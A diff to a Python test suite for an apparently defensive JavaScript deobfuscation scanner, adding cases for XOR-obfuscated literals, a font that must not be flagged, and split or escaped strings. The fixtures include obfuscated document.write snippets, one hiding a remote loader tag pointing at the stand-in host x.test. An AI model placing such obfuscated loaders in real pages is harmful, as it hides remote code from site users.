@@ -4,7 +4,9 @@ not obfuscation at all."""
 from __future__ import annotations
 
 import base64
+import hashlib
 import re
+from collections.abc import Callable
 
 import pytest
 from hypothesis import given
@@ -284,6 +286,56 @@ def test_markup_xored_with_a_constant_and_written_is_read(decoder: str) -> None:
 ])
 def test_constant_xor_that_hides_no_markup_or_code_is_not_read(code: str) -> None:
     assert deobfuscate._xor_constant(code) is None
+
+
+def _font_beside_a_checksum() -> str:
+    """A bundled icon font (base64 of 384 bytes) and, in the same script, a checksum that
+    XORs another string's characters with 9: the font XORed with 9 holds `=>`."""
+    raw = b"".join(hashlib.sha256(f"font-428-{i}".encode()).digest() for i in range(12))
+    font = base64.b64encode(raw).decode()
+    return (f'var FONT="data:font/woff2;base64,{font}";function sum(s){{var h="";'
+            "for(var i=0;i<s.length;i++){h+=String.fromCharCode(s.charCodeAt(i)^9)}return h}"
+            'document.fonts.add(new FontFace("Icons","url("+FONT+")"));')
+
+
+def test_constant_xor_reads_only_the_literal_it_decodes() -> None:
+    """The key XORs `s`'s characters, not the font's: a literal the decoder is not handed
+    is no payload (the script's longest literal, a bundled font, read as code gave an
+    obfuscated-script finding)."""
+    assert deobfuscate._xor_constant(_font_beside_a_checksum()) is None
+    assert not decode_script(_font_beside_a_checksum()).signals
+
+
+def _js_quoted(text: str, quote: str) -> str:
+    return "".join(f"\\x{ord(c):02x}" if c in (quote, "\\") else c for c in text)
+
+
+@pytest.mark.parametrize("literal", [
+    # in single quotes, its `'` (`%` XORed with 2) escaped
+    lambda e: "'" + _js_quoted(e, "'") + "'",
+    lambda e: "'" + e.replace("'", "\\'") + "'",
+    # cut in pieces joined with `+`
+    lambda e: '"' + e[:60] + '"+"' + e[60:150] + '" + "' + e[150:] + '"',
+])
+def test_constant_xor_literal_escaped_or_in_pieces_is_read(literal: Callable[[str], str]) -> None:
+    code = (f"var a={literal(_xor_escaped(XOR_WRITTEN, 2))};b=\"\";for(i=0;i<a.length;i++)"
+            "{b+=String.fromCharCode(a.charCodeAt(i)^2)}document.write(unescape(b));")
+    assert XOR_WRITTEN in decode_script(code).payloads
+
+
+def test_constant_xor_key_held_in_a_variable_is_read() -> None:
+    code = (f'var k=0x7f,a="{_xor_escaped(XOR_WRITTEN, 0x7f)}",b="";'
+            "for(i=0;i<a.length;i++){b+=String.fromCharCode(a.charCodeAt(i)^k)}"
+            "document.write(unescape(b));")
+    assert XOR_WRITTEN in decode_script(code).payloads
+
+
+def test_constant_xor_of_a_short_loader_is_read() -> None:
+    """A loader tag of 35 characters, percent-escaped: 105, under the 200 read before."""
+    tag = "<script src=//x.test/a.js></script>"
+    code = (f'var a="{_xor_escaped(tag, 2)}",b="";for(i=0;i<a.length;i++)'
+            "{b+=String.fromCharCode(a.charCodeAt(i)^2)}document.write(unescape(b));")
+    assert tag in decode_script(code).payloads
 
 
 def test_unpack_round_trip() -> None:
